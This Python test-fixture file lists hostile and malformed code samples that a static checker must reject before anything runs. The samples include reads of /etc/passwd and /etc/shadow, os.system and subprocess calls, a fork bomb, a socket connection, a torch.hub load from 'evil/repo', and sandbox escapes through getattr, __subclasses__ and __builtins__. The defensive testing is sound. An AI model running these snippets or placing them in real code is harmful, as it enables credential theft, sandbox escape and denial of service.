"""Hostile and broken designs the static check S0 must reject before anything runs.

Each case: (id, state source, net source or None for the corpus's good net, expected S0 check,
message fragment). Several would do harm at import time if they were ever executed: S0 must
stop them by reading alone. A net source of None means the corpus's good net (s1_cases.GOOD_NET).
"""



def _state(body: str, imports: str = "import torch\n") -> str:
    return imports + "\n\ndef state(m):\n" + body


S0_CASES = [
    ("file_write", _state("    open('/tmp/llmabr-pwned', 'w').write('x')\n    return {}\n"), None, "name", "`open`"),
    ("file_read", _state("    secret = open('/etc/passwd').read()\n    return {}\n"), None, "name", "`open`"),
    ("dunder_import", _state("    __import__('os').system('id')\n    return {}\n"), None, "name", "__import__"),
    ("os_system", _state("    os.system('touch /tmp/x')\n    return {}\n", "import os\nimport torch\n"), None,
     "import", "`import os` is not allowed"),
    ("subprocess", _state("    subprocess.run(['id'])\n    return {}\n", "import subprocess\n"), None, "import", "subprocess"),
    ("socket_connect", _state("    socket.create_connection(('10.0.0.1', 80))\n    return {}\n", "import socket\n"), None,
     "import", "socket"),
    ("ctypes", _state("    ctypes.CDLL(None).abort()\n    return {}\n", "import ctypes\n"), None, "import", "ctypes"),
    ("getattr_escape", _state("    getattr(torch, 'sa' + 've')(m, '/tmp/x')\n    return {}\n"), None, "name", "`getattr`"),
    ("subclasses_escape", _state("    ().__class__.__bases__[0].__subclasses__()\n    return {}\n"), None, "dunder", "__class__"),
    ("sys_exit", _state("    sys.exit(0)\n", "import sys\n"), None, "import", "sys"),
    ("os_underscore_exit", _state("    os._exit(0)\n", "from os import _exit\n"), None, "import", "from os import"),
    ("signal_tampering", _state("    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n    return {}\n", "import signal\n"), None,
     "import", "signal"),
    ("thread_spawn", _state("    threading.Thread(target=print).start()\n    return {}\n", "import threading\n"), None,
     "import", "threading"),
    ("fork_bomb", _state("    while True:\n        os.fork()\n", "import os\n"), None, "import", "os"),
    ("torch_multiprocessing", _state("    torch.multiprocessing.Process(target=print).start()\n    return {}\n"), None,
     "attribute", ".multiprocessing"),
    ("torch_save", _state("    torch.save(m, '/tmp/stolen.pt')\n    return {}\n"), None, "attribute", ".save"),
    ("numpy_fromfile", _state("    np.fromfile('/etc/shadow')\n    return {}\n", "import numpy as np\n"), None,
     "attribute", ".fromfile"),
    ("torch_hub", _state("    torch.hub.load('evil/repo', 'model')\n    return {}\n"), None, "attribute", ".hub"),
    ("eval_string", _state("    return eval('{}')\n"), None, "name", "`eval`"),
    ("exec_string", _state("    exec('import os')\n    return {}\n"), None, "name", "`exec`"),
    ("compile_string", _state("    compile('1', 'x', 'eval')\n    return {}\n"), None, "name", "`compile`"),
    ("globals_builtins", _state("    globals()['__builtins__']['open']\n    return {}\n"), None, "name", "`globals`"),
    ("relative_import", _state("    return {}\n", "from . import evil\n"), None, "import", "relative imports"),
    ("syntax_error", "import torch\n\ndef state(m)\n    return {}\n", None, "syntax", "syntax error"),
    ("missing_state_function", "import torch\n\n\ndef features(m):\n    return {}\n", None, "entrypoint", "def state(m)"),
    ("missing_trunk", _state("    return {}\n"), "import torch\nfrom torch import nn\n\n\nclass Net(nn.Module):\n    pass\n",
     "entrypoint", "class Trunk"),
    ("trunk_not_a_module", _state("    return {}\n"), "class Trunk:\n    pass\n", "entrypoint", "derive from nn.Module"),
    ("import_time_call", _state("    return {}\n") + "\nprint('side effect at import')\n", None, "structure", "module level"),
    ("huge_source", _state("    x = 0\n" + "    x = x + 1\n" * 2000 + "    return {}\n"), None, "size", "exceed the caps"),
    ("torch_private_c", _state("    torch._C._set_print_stack_traces_on_fatal_signal(True)\n    return {}\n"), None,
     "attribute", "private attribute"),
    ("from_torch_import_private", _state("    return {}\n", "from torch import _C\n"), None, "import", "from torch import _C"),
    ("cpp_extension", _state("    torch.utils.cpp_extension.load_inline('x', 'int y;')\n    return {}\n"), None,
     "attribute", ".utils"),
    ("importlib", _state("    importlib.import_module('os')\n    return {}\n", "import importlib\n"), None,
     "import", "importlib"),
    ("breakpoint", _state("    breakpoint()\n    return {}\n"), None, "name", "`breakpoint`"),
    ("lambda_smuggled_import", _state("    loader = lambda name: __import__(name)\n    return {}\n"), None, "name", "__import__"),
    ("builtins_via_dict", _state("    return {}\n") + "\nclass Sneaky:\n    x = __builtins__\n", None, "name", "__builtins__"),
    ("async_state", "import torch\n\n\nasync def state(m):\n    return {}\n", None, "structure", "async"),
    ("nada_wrong_signature", "import numpy as np\n\n\ndef state_func(bit_rate_kbps_list, buffer_size_second_list):\n"
                             "    return {'normal_states': [], 'time_series_states': []}\n", None, "entrypoint",
     "state_func must take exactly"),
]

assert len({case[0] for case in S0_CASES}) == len(S0_CASES)
